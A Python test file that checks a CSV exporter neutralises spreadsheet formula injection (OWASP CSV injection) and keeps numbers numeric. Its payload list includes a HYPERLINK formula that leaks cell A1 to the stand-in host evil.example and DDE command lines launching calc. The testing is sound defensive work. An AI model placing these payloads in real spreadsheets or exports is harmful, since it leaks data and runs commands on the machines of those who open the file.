"""CSV for spreadsheets: no cell a spreadsheet would run as a formula (OWASP CSV injection), numbers stay numbers."""

import csv
import io
import json

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ikz.exchange.spreadsheet import csv_text
from tests.strategies import nasty_text

# What OWASP's CSV injection page says a cell must not begin with.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Payloads from the OWASP page and its references: links, DDE command lines, arithmetic, functions.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klick")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1,5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n@SUM(A1)",
    "=",
    "-",
]
TEXTS = st.one_of(st.sampled_from(FORMULAS), st.sampled_from(FORMULAS).map(lambda f: f + " Rest"), nasty_text())
CELLS = st.one_of(TEXTS, st.integers(min_value=-(10**12), max_value=10**12))
PROPERTY = settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def parse(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def inert(cell: str) -> bool:
    """A spreadsheet takes this cell as text or a number: it does not begin a formula, even once trimmed."""
    return not (cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS))


@given(rows=st.lists(st.lists(CELLS, min_size=1, max_size=4), max_size=4), headers=st.lists(TEXTS, max_size=3))
def test_no_cell_begins_a_formula_and_nothing_is_lost(rows, headers):
    """Property: whatever text the cells hold, each comes back inert, either as it was or behind one leading
    quote (OWASP); whole numbers, negative ones too, come back as plain digits the spreadsheet can sum."""
    records = parse(csv_text(headers, rows))
    assert len(records) == len(rows) + 1
    for written, read in zip([headers, *rows], records):
        assert len(read) == len(written)
        for value, cell in zip(written, read):
            if isinstance(value, int):
                assert cell == str(value)
                continue
            assert inert(cell), cell
            assert cell == (value if inert(value) else "'" + value)


def test_the_owasp_examples_are_neutralised():
    [header, row] = parse(csv_text(["Titel"], [[formula] for formula in FORMULAS[:1]]))
    assert (header, row) == (["Titel"], ['\'=HYPERLINK("http://evil.example/?leak="&A1,"klick")'])
    assert parse(csv_text(["Betrag"], [[-5], ["-5"], [120000]]))[1:] == [["-5"], ["'-5"], ["120000"]]


@PROPERTY
@given(title=TEXTS)
def test_a_title_reaches_the_export_and_the_participation_matrix_inert(loaded, cli, title):
    """Property: a mandate title such as =HYPERLINK(…) lands in `export --format csv` and `participation --csv`
    as text, shown exactly as the coordinator typed it (behind one quote when it could begin a formula)."""
    edited = cli("edit", "1.4", "--title", title)
    shown = cli("show", "1.4", "--json")
    assert shown.exit_code == 0, (edited.output, shown.output)
    stored = json.loads(shown.stdout)["title"]
    if edited.exit_code == 0:
        assert stored == title.strip()
    for args, column in ((["export", "--format", "csv"], 2), (["participation", "--csv"], 1)):
        result = cli(*args)
        assert result.exit_code == 0, result.output
        records = parse(result.stdout)
        row = next(record for record in records if record[0] == "1.4")
        assert all(inert(cell) for record in records for cell in record)
        assert row[column] == (stored if inert(stored) else "'" + stored)
